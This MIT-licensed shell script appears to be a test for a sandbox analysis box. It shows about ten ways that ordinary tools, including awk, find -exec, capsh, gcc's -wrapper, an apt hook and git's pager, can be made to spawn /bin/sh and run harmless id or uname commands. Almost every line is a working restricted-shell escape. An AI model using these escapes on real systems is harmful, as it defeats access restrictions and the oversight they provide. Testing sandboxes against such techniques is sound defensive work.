#!/bin/sh
# SPDX-License-Identifier: MIT
# Breaking out of a restricted command set: ordinary tools that can start a
# program are made to start a shell (awk's system(), env, find -exec, flock,
# nice, nohup, capsh, gcc's -wrapper, an apt hook, git's pager), each a
# shell with no script, given one command on its input.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cd "$HOME" || exit 1
echo id | awk 'BEGIN {system("/bin/sh")}'
echo 'id -un' | env /bin/sh
echo 'id -gn' | find . -maxdepth 0 -exec /bin/sh \;
echo 'uname -n' | flock -u / /bin/sh
echo 'id -u' | nice /bin/sh
echo 'id -g' | nohup /bin/sh > /dev/null 2>&1
echo 'id -G' | capsh --
echo 'uname -s' | gcc -wrapper /bin/sh,-s . 2>/dev/null
apt-get update -o APT::Update::Pre-Invoke::=/bin/sh > /dev/null 2>&1
# git runs its pager only on a terminal: one is made for it
printf 'id\nexit\n' | PAGER='sh -c "exec sh 0<&1"' script -qec 'git -p help' /dev/null > /dev/null 2>&1
exit 0
